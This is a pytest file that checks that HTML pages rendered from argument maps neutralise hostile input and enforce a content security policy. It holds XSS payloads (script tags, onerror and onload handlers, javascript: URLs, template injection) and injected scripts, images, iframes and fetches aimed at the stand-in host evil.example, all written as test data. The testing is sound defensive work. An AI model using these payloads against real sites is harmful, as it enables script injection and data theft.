"""A page of a stranger's map runs nothing, asks for nothing and shows every text as the text that it is."""

import json

import pytest
from page_maps import TROOPS

from argmap.page.whole import page
from argmap.registry import Settings
from argmap.visible import one_line

STRINGS = [
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "<!--<script>window.pwned=1",
    "--> ]]> </title></style></textarea><svg/onload=window.pwned=1>",
    "\" onmouseover=\"window.pwned=1\" autofocus onfocus='window.pwned=1' x=\"",
    "<img src=x onerror=window.pwned=1>",
    "<img src=https://evil.example/x.png>",
    "javascript:window.pwned=1",
    "&lt;b&gt; &amp;amp; &#60;script&#62;",
    "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1} `x`",
    "line\u2028separators\u2029and \u202eright to left\u202c and \u0007 bell \u0000nul",
    "<base href=https://evil.example/><meta http-equiv=refresh content=0;url=https://evil.example>",
    '<a href="javascript:window.pwned=1">x</a><form action=https://evil.example><input name=x>',
    'url(#x) id="y" href="#z" </g></svg><iframe src=https://evil.example></iframe>',
]  # fmt: skip


def _map(words):
    words = json.dumps(words)
    return f"""\
argmap: 1
question: {words}
thesis: {words}
note: {words}
sources:
  {words}:
    {{file: s.txt, title: {words}, author: {words}, publisher: {words}, date: {words}, note: {words}, url: {words}}}
  lost: {{file: {words}, title: lost}}
speakers:
  {words}: {{name: {words}, role: {words}}}
supporting:
  - claim: {words}
    id: {words}
    note: {words}
    allow: {{{words}: {words}}}
    quotes:
      - {{quote: {words}, source: {words}, speaker: {words}, date: {words}, note: {words}}}
      - {{quote: not there, source: {words}, speaker: nobody, allow: {{quote-too-short: {words}}}}}
      - {{quote: {words}, source: lost}}
    opposing:
      - {{see: {words}}}
      - {{see: no such one}}
    undercutting: [{words}]
"""


@pytest.mark.parametrize("words", STRINGS)
def test_hostile_texts_run_nothing_and_show_as_text(reader, check, tmp_path, words):
    verdict = check(_map(words), s=f"Before it.\n\n{words.replace(chr(0), '')} and more words.\n\nAfter it.\n")
    file = tmp_path / "page.html"
    file.write_bytes(page(verdict.dossier, Settings(sources="full")).encode())
    reader.open(file)
    reader.find("#unfold").click()
    for place in reader.chrome.find_elements("css selector", "a.place"):
        reader.run("location.hash = arguments[0].hash", place)
    reader.run("document.querySelectorAll('details').forEach(each => each.open = true)")
    shown = one_line(words)
    plain = "const plain = e => e.textContent.replace(/\\s+/g, ' ').trim();"
    for selector in ("h1", ".tree .words", ".top .note", ".own .who", "h3", "#filters option[value=source-0]"):
        first = reader.run(f"{plain} return plain(document.querySelector(arguments[0]))", selector)
        assert " ".join(shown.split()) in first, selector
    assert reader.run("return [window.pwned ?? null, document.scripts.length, document.forms.length]") == [None, 1, 0]
    strange = "return document.querySelectorAll('iframe, img, form, base, object, embed, body link, body meta').length"
    assert reader.run(strange) == 0
    handlers = (
        "return [...document.querySelectorAll('*')].flatMap(e => e.getAttributeNames()).filter(n => /^on/.test(n))"
    )
    assert reader.run(handlers) == []
    links = "return [...document.querySelectorAll('a')].map(a => a.getAttribute('href')).filter(a => /^(?!#)/.test(a))"
    assert [link for link in reader.run(links) if not link.startswith(("http:", "https:", "%", "./"))] == []
    assert reader.requests() == []
    assert reader.complaints() == []


INJECTED = """
const done = arguments[0], seen = [];
addEventListener('securitypolicyviolation', event => seen.push(event.effectiveDirective));
const attempt = f => { try { f() } catch (error) { seen.push(error.name) } };
const put = (name, more) => document.body.append(Object.assign(document.createElement(name), more));
attempt(() => put('script', {textContent: 'window.pwned = 1'}));
attempt(() => put('script', {src: 'https://evil.example/x.js'}));
attempt(() => put('img', {src: 'https://evil.example/x.png'}));
attempt(() => put('style', {textContent: 'body { display: none }'}));
attempt(() => put('iframe', {src: 'https://evil.example/'}));
attempt(() => document.body.innerHTML = '<img src=x onerror="window.pwned = 1">');
attempt(() => document.body.setAttribute('onclick', 'window.pwned = 1'));
attempt(() => document.body.click());
attempt(() => put('base', {href: 'https://evil.example/'}));
fetch('https://evil.example/').catch(() => 0);
setTimeout(() => done([window.pwned ?? null, getComputedStyle(document.body).display, [...new Set(seen)].sort()]), 300);
"""


def test_the_policy_stops_whatever_is_injected(reader, check, tmp_path):
    verdict = check("argmap: 1\nquestion: Why?\nsupporting: [x]\n")
    file = tmp_path / "page.html"
    file.write_bytes(page(verdict.dossier, Settings()).encode())
    reader.open(file)
    pwned, display, seen = reader.chrome.execute_async_script(INJECTED)
    assert (pwned, display) == (None, "block")
    assert {"style-src-elem", "img-src", "frame-src", "connect-src", "base-uri"} <= set(seen)
    assert "TypeError" in seen
    reader.complaints()
    assert [url for url in reader.requests() if url.startswith("http")] == []


def test_the_policy_stops_a_script_that_was_written_into_the_file(reader, made, tmp_path):
    text = made(TROOPS).read_text("utf-8")
    file = tmp_path / "page.html"
    evil = "<script>window.pwned = 1</script><img src=x onerror='window.pwned = 1'><style>body{display:none}</style>"
    file.write_text(text.replace("<main", f"{evil}<main"), "utf-8")
    reader.open(file)
    reader.find("#zoom-in").click()
    assert reader.run("return [window.pwned ?? null, getComputedStyle(document.body).display]") == [None, "block"]
    assert len(reader.complaints()) >= 3
